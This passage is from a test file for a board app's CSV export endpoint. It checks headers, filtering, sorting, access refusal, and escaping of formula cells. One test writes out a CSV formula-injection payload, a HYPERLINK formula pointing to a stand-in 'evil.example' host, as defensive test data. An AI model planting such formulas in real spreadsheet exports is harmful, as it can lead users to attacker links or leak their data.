        type: 'table',
        settings: { sheet_title: 'Products', ...settings },
      });
      return { board, blockId };
    }

    it("gives a guest a table's rows as the block shows them, every page, as a CSV file", async () => {
      const { board, blockId } = await publicBoardWith({
        csv_download: true,
        rows_per_page: 5,
        axis: [{ column: 'Name' }, { column: 'Category', hidden: true }, { column: 'Price' }],
      });
      const res = await read(
        boardSheet(
          'Products',
          `/csv?board=%2F${board.slug}&block_id=${blockId}&search=lamps&sort=-Price`,
        ),
      );
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toBe(
        `attachment; filename="Products.csv"; filename*=UTF-8''Products.csv`,
      );
      expect(res.headers['cache-control']).toBe('private, no-store');
      const lamps = products
        .filter((product) => product.Category === 'Lamps')
        .sort((a, b) => Number(b.Price) - Number(a.Price));
      const lines = res.body.replace(/^\uFEFF/, '').split('\r\n');
      expect(lines[0]).toBe('"Name","Price"');
      expect(lines.slice(1, -1)).toEqual(
        lamps.map((product) => `"${product.Name}","${product.Price}"`),
      );
      expect(lines.at(-1)).toBe('');
    });

    it('writes cells a spreadsheet program would run as formulas as text', async () => {
      const { board, blockId } = await publicBoardWith({
        csv_download: true,
        add_new_row: 'Everyone',
      });
      const url = `/api/board/${spreadsheetId}/sheet/Products/rows?board=%2F${board.slug}`;
      const add = (Name: string) =>
        gateway.app.inject({
          method: 'POST',
          url,
          headers: { cookie: owner.cookie },
          payload: { block_id: blockId, values: { Name } },
        });
      expect((await add('=HYPERLINK("http://evil.example","x")')).statusCode).toBe(201);
      expect((await add('@SUM(1,2)')).statusCode).toBe(201);
      const csv = (
        await read(
          boardSheet('Products', `/csv?board=%2F${board.slug}&block_id=${blockId}&search=sum,evil`),
        )
      ).body;
      expect(csv).toContain(`"'=HYPERLINK(""http://evil.example"",""x"")","",""`);
      expect(csv).toContain(`"'@SUM(1,2)","",""`);
    });

    it('refuses a block without csv_download, another sheet, or no block, like a sheet not shown', async () => {
      const { board, blockId } = await publicBoardWith({ csv_download: false });
      const on = await publicBoardWith({ csv_download: true });
      // A guest, and the owner too: the download is the block's, not the sheet's.
      const callers: Record<string, string>[] = [{}, { cookie: owner.cookie }];
      for (const url of [
        boardSheet('Products', `/csv?board=%2F${board.slug}&block_id=${blockId}`),
        boardSheet('Store Locations', `/csv?board=%2F${on.board.slug}&block_id=${on.blockId}`),
        boardSheet('Products', `/csv?board=%2F${on.board.slug}`),
      ]) {
        for (const headers of callers) {
          const refused = await read(url, headers);
          expect(refused.statusCode).toBe(404);
          expect(refused.json()).toMatchObject({ message: 'Sheet not found.' });
        }
      }
    });
  });
});
